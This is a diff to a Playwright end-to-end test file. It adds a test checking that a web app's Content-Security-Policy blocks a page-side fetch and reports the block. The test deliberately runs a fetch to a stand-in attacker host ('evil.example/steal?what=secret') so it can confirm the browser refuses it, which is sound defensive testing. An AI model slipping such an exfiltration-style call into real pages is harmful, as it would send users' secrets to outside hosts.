@@ -1,4 +1,4 @@
-import { expect, request as requests } from '@playwright/test';
+import { chromium, expect, request as requests } from '@playwright/test';
 import { spawnSync } from 'node:child_process';
 import { once } from 'node:events';
 import type { IncomingMessage } from 'node:http';
@@ -7,6 +7,7 @@ import { text } from 'node:stream/consumers';
 import { Client } from 'pg';
 import { HANG_MS } from '@/lib/kit/poll';
 import { PASSWORD } from '@/lib/kit/server/server';
+import { browserOptions } from '../../support/browser/browser-options';
 import { findPostgresql } from '../../support/databases/find-postgresql';
 import { withAllRights } from '../../support/databases/postgresql-environment';
 import { PlayedCompose } from '../../support/deployment/played-compose';
@@ -85,6 +86,24 @@ test.describe('the services of the compose file, as processes', () => {
     expect(held.status()).toBe(200);
     expect(performance.now() - startedAt).toBeGreaterThan(20_000);
     await visitor.request.dispose();
+  });
+
+  test('what the policy of a page refuses is reported over https, by the browser’s own endpoint', async () => {
+    const { args = [], ...options } = browserOptions();
+    // Reports are sent without the page, and otherwise gathered for a minute.
+    const flags = ['--ignore-certificate-errors', '--short-reporting-delay'];
+    const browser = await chromium.launch({ ...options, args: [...args, ...flags] });
+    try {
+      const page = await browser.newPage({ ignoreHTTPSErrors: true });
+      const answer = await page.goto(`${compose.url}/sign-in`);
+      expect(await answer?.headerValue('reporting-endpoints')).toBe('policy="/api/policy-reports"');
+      await page.evaluate(() => fetch('https://evil.example/steal?what=secret').catch(() => null));
+      await expect
+        .poll(() => compose.output)
+        .toMatch(/"directive":"connect-src","blocked":"evil\.example","page":"\/sign-in"/);
+    } finally {
+      await browser.close();
+    }
   });
 
   test('threat: a password that leaks — no secret of the files is in what the programs say', async () => {
